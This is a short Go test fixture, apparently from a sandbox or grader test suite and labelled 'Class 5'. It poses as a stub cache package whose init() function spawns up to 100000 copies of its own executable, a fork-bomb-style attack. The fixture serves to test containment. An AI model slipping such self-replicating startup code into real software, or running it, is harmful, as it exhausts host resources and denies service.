// want: fail|timeout

// Class 5: starts copies of itself without end.
package cache

import (
	"os"
)

func init() {
	exe, err := os.Executable()
	if err != nil {
		return
	}
	for range 100000 {
		if _, err := os.StartProcess(exe, []string{exe, "-test.run=^$"}, &os.ProcAttr{}); err != nil {
			break
		}
	}
}

type Cache struct{}

func NewCache(load func(key string) string) *Cache { return &Cache{} }

func (c *Cache) Get(key string) string { return "" }
